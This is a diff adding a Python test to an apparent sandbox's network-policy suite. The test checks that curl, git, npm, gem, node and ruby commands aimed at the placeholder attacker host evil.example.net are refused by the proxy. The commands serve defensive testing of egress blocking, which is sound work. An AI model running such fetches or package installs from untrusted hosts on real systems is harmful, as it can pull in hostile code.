@@ -156,6 +156,36 @@ def test_client_reaches_listed_name(internet: Internet, name: str) -> None:
     assert expected in result.stdout, (result.summary(), result.stdout, result.stderr, result.network)
 
 
+_REFUSED = {
+    "curl": ("curl -sS http://evil.example.net/", "not in network.allow; allow it with --allow evil.example.net:80"),
+    "curl over TLS": (
+        "curl -sS https://evil.example.net/",
+        "response 403",
+    ),
+    "git": ("git clone http://evil.example.net/x", "403"),
+    "npm": ("npm install --no-audit --fetch-retries 0 --registry http://evil.example.net/ told", "403"),
+    "gem": ("gem fetch told --clear-sources --source http://evil.example.net/", "403"),
+    "node": (
+        "node -e \"require('http').get({host: '127.0.0.1', port: 3128, path: 'http://evil.example.net/', "
+        "headers: {host: 'evil.example.net'}}, r => r.pipe(process.stdout))\"",
+        "allow it with --allow evil.example.net:80",
+    ),
+    "ruby": (
+        "ruby -rnet/http -e 'puts Net::HTTP.get(URI(\"http://evil.example.net/\"))'",
+        "--allow evil.example.net:80",
+    ),
+}
+
+
+def test_clients_show_refusal_of_unlisted_name(internet: Internet) -> None:
+    code = "\n".join(f"echo '== {name}'; {command} 2>&1" for name, (command, _) in _REFUSED.items())
+    limits = {"memory": "512MiB", "processes": 64}
+    result = _run(internet, code, language="shell", policy={"limits": limits})
+    shown = dict(part.split("\n", 1) for part in result.stdout.split("== ")[1:])
+    assert {name for name, (_, reason) in _REFUSED.items() if reason not in shown[name]} == set(), result.stdout
+    assert result.network is not None and {each.target for each in result.network.targets} == set()
+
+
 def test_pip_and_requests_reach_listed_index(internet: Internet) -> None:
     options = [
         "-q",
